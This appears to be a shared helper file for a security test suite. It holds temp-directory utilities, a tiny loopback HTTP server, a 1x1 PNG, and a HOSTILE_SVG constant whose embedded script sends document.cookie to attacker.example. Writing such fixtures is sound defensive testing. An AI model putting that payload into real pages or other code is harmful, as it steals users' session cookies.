// Shared helpers of the security suite: temp folders, a tiny hostile HTTP server whose routes the
// test defines, and the engine test server reused from the engine suite.
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const temps: string[] = [];
export async function tempDir(prefix = 'dp-sec-'): Promise<string> {
  const d = await mkdtemp(join(tmpdir(), prefix));
  temps.push(d);
  return d;
}
export async function removeTemps(): Promise<void> {
  for (const d of temps.splice(0)) await rm(d, { recursive: true, force: true });
}

export interface TinyServer {
  origin: string;
  /** Every request path the server saw, in order. */
  seen: string[];
  close(): Promise<void>;
}

/** A loopback HTTP server answering with `route` (a 404 when it returns false). */
export async function tinyServer(route: (req: IncomingMessage, res: ServerResponse) => boolean | void, host = '127.0.0.1'): Promise<TinyServer> {
  const seen: string[] = [];
  const server = createServer((req, res) => {
    seen.push(req.url ?? '/');
    if (route(req, res) === false) {
      res.writeHead(404);
      res.end();
    }
  });
  await new Promise<void>((r) => server.listen(0, host, () => r()));
  const port = (server.address() as AddressInfo).port;
  return {
    origin: `http://${host}:${port}`,
    seen,
    close: () => new Promise<void>((r) => {
      server.closeAllConnections();
      server.close(() => r());
    }),
  };
}

/** A 1×1 PNG. */
export const PNG_1X1 = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==', 'base64');

export const HOSTILE_SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://attacker.example/?k="+document.cookie)</script></svg>';
